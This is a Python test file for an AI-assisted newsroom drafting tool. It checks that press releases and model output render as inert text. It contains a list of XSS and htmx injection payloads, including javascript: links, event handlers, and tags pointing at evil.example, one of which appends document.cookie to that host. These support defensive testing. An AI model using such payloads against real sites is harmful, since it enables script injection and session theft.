"""Press releases and model output are shown as text: no script, handler, hx-* attribute or
javascript: link from them survives into the page (OWASP LLM05; htmx makes hx-* attributes live)."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from bs4 import BeautifulSoup
from django.test import Client

from agents.models import Run
from agents.work import runs
from tests.agents.draft_script import submit
from tests.factories import ArticleFactory, VerificationIssueFactory
from tests.fakes.anthropic import FakeAnthropic
from tests.fixtures.press import PRESS_RELEASE
from tests.newsdesk.desk.conftest import HTMX
from tests.newsdesk.desk.html import parse

pytestmark = pytest.mark.django_db

# Every payload names "xss" in what it would run or fetch, so a surviving one is easy to spot.
PAYLOADS = [
    "<script>xss()</script>",
    '"><script>xss()</script>',
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()></svg>",
    '<a href="javascript:xss()">기사 원문</a>',
    '<div hx-get="/xss" hx-trigger="load">로딩</div>',
    '<button hx-on:click="xss()">클릭</button>',
    '<div hx-on::load="xss()" data-hx-post="/xss">x</div>',
    '<form action="https://evil.example/xss"><button>제출</button></form>',
    '<iframe src="https://evil.example/xss"></iframe>',
    "<style>body{background:url(https://evil.example/xss)}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/xss">',
    '<base href="https://evil.example/xss/">',
    '<link rel="stylesheet" href="https://evil.example/xss.css">',
    '<object data="javascript:xss()"></object>',
    "<img src='https://evil.example/xss?c=' + document.cookie>",
    "![사진](https://evil.example/xss.png) [링크](javascript:xss())",
    "{{ request.user }} {% csrf_token %} <b unclosed='",
]
OUR_META = {"charset", "viewport", "htmx-config"}


def assert_inert(html: str) -> None:
    soup = BeautifulSoup(html, "lxml")
    for element in soup.find_all(True):
        tag = element.name
        assert tag not in ("img", "svg", "iframe", "object", "embed", "base", "style"), element
        if tag == "script":
            assert element.get("src", "").startswith("/static/") and not element.get_text(), element
        if tag == "link":  # our stylesheet, and the empty icon that saves a /favicon.ico request
            assert element.get("href", "").startswith("/static/") or element.get("href") == "data:,", element
        if tag == "meta":
            assert element.get("name") in OUR_META or element.has_attr("charset"), element
        if tag == "form":
            assert element.get("action", "").startswith("/"), element
        for name, value in element.attrs.items():
            values = " ".join(value) if isinstance(value, list) else str(value)
            assert not name.startswith("on"), element
            assert not name.startswith(("hx-on", "data-hx-on")), element
            if name.startswith(("hx-", "data-hx-")):
                # "/xss" or "xss(": a bare "xss" also turns up inside a random CSRF token.
                assert "/xss" not in values and "xss(" not in values, element
            if name in ("href", "src", "action", "data", "formaction") and tag != "link":
                assert not values.strip().lower().startswith(("javascript:", "data:")), element
            if name in ("src", "action", "data", "formaction") or (tag != "a" and name == "href"):
                assert "evil.example" not in values, element  # nothing the page itself would fetch


@pytest.fixture
def hostile_article(reporter) -> Run:
    """A finished draft whose every model-written field carries the payloads."""
    text = " ".join(PAYLOADS)
    article = ArticleFactory(
        reporter=reporter,
        headline=PAYLOADS[0] + PAYLOADS[3],
        draft_body=f"첫 문장입니다. {text}\n\n둘째 문단 {PAYLOADS[7]}",
        body=f"첫 문장입니다.\n\n둘째 문단 {PAYLOADS[7]}",
        verdict="revised",
        sources=[{"title": p, "url": "javascript:xss()"} for p in PAYLOADS[:5]]
        + [{"title": PAYLOADS[6], "url": "data:text/html,<script>xss()</script>"}],
        length=10,
        warnings=PAYLOADS[:3],
        instruction=PAYLOADS[8],
        changes_made=PAYLOADS[9],
        source_material=[{"kind": "press_release", "title": PAYLOADS[1], "text": text}],
        provenance=[
            {"text": p, "spans": [{"source": 0, "start": 0, "end": len(PAYLOADS[0]), "text": PAYLOADS[0]}]}
            for p in PAYLOADS[:2]
        ],
        missing_facts=[{"fact": p, "source_text": p} for p in PAYLOADS[3:6]],
    )
    for payload in PAYLOADS:
        VerificationIssueFactory(
            article=article,
            claim=payload,
            status="not_found",
            kind="other",
            source=payload,
            origin="llm",
            sentence_index=2,
            action="deleted",
        )
    runs.event_add(run=article.run, kind="done", message="수정 완료 · " + PAYLOADS[6])
    return article.run


def test_model_output_in_every_field_of_the_result_renders_as_text(
    desk: Client, hostile_article: Run
) -> None:
    for response in (
        desk.get(f"/desk/drafts/{hostile_article.pk}/"),
        desk.get(f"/desk/drafts/{hostile_article.pk}/status/", **HTMX),
        desk.get("/desk/drafts/"),
        desk.get("/desk/"),
    ):
        html = response.content.decode()
        assert_inert(html)
    page = parse(desk.get(f"/desk/drafts/{hostile_article.pk}/")).get_text()
    assert PAYLOADS[0] in page and PAYLOADS[7] in page  # shown, as text


def test_a_javascript_source_url_is_shown_without_a_link(desk: Client, hostile_article: Run) -> None:
    soup = parse(desk.get(f"/desk/drafts/{hostile_article.pk}/"))

    items = soup.select(".sources li")
    assert len(items) == 6 and not any(li.find("a") for li in items)
    assert items[0].get_text() == PAYLOADS[0]


def test_an_https_source_is_a_link_that_opens_without_an_opener(desk: Client, reporter) -> None:
    run = ArticleFactory(
        reporter=reporter,
        headline="h",
        draft_body="b.",
        body="b.",
        verdict="pass",
        length=2,
        sources=[{"title": "연합뉴스", "url": "https://www.yna.co.kr/view/1"}],
    ).run

    link = parse(desk.get(f"/desk/drafts/{run.pk}/")).select_one(".sources a")

    assert link["href"] == "https://www.yna.co.kr/view/1" and "noopener" in link["rel"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_press_release_is_kept_as_text_when_the_form_comes_back(desk: Client, payload: str) -> None:
    response = desk.post("/desk/", {"press_release": payload, "department": "연예부"})

    assert response.status_code == 200
    assert_inert(response.content.decode())
    assert parse(response).select_one("#id_press_release").get_text().strip() == payload.strip()


def test_hostile_text_in_the_verify_only_check_renders_inert(desk: Client) -> None:
    article = "서울시는 3일 발표했다. " + " ".join(f"{p} 2030년 계획이다." for p in PAYLOADS)

    response = desk.post(
        "/desk/verify/", {"article": article, "sources": "서울시는 3일 발표했다. " + PAYLOADS[0]}
    )

    html = response.content.decode()
    assert_inert(html)
    assert parse(response).select("#verify-highlight mark.flagged")  # the highlight ran on it


def test_a_model_draft_full_of_payloads_goes_through_the_pipeline_and_renders_inert(
    desk: Client, finish_draft: Callable[..., Run]
) -> None:
    def script(fake: FakeAnthropic) -> None:
        # About 450 characters: inside the default length band, so the writer is not asked again.
        body = "서울시가 청년 월세 지원을 늘린다. " + " ".join(PAYLOADS[:12])
        submit(fake, headline=PAYLOADS[4] + " 서울시", body=body)
        fake.tool(
            "verify_article",
            {
                "thinking": PAYLOADS[0],
                "verdict": "needs_revision",
                "issues": [
                    {"claim": p[:60], "status": "contradicted", "kind": "other", "sentence": 2, "source": p}
                    for p in PAYLOADS[:10]
                ],
                "revisions": [{"sentence": 2, "text": PAYLOADS[7]}],
            },
        )

    run = finish_draft(script, press_release=PRESS_RELEASE + PAYLOADS[5])

    assert run.status == "done", run.error
    for response in (desk.get(f"/desk/drafts/{run.pk}/"), desk.get(f"/desk/drafts/{run.pk}/status/", **HTMX)):
        assert_inert(response.content.decode())


def test_the_assertion_itself_catches_live_markup() -> None:
    with pytest.raises(AssertionError):
        assert_inert('<div hx-get="/xss">x</div>')
    with pytest.raises(AssertionError):
        assert_inert('<a href="javascript:xss()">x</a>')
    with pytest.raises(AssertionError):
        assert_inert("<img src=x onerror=xss()>")
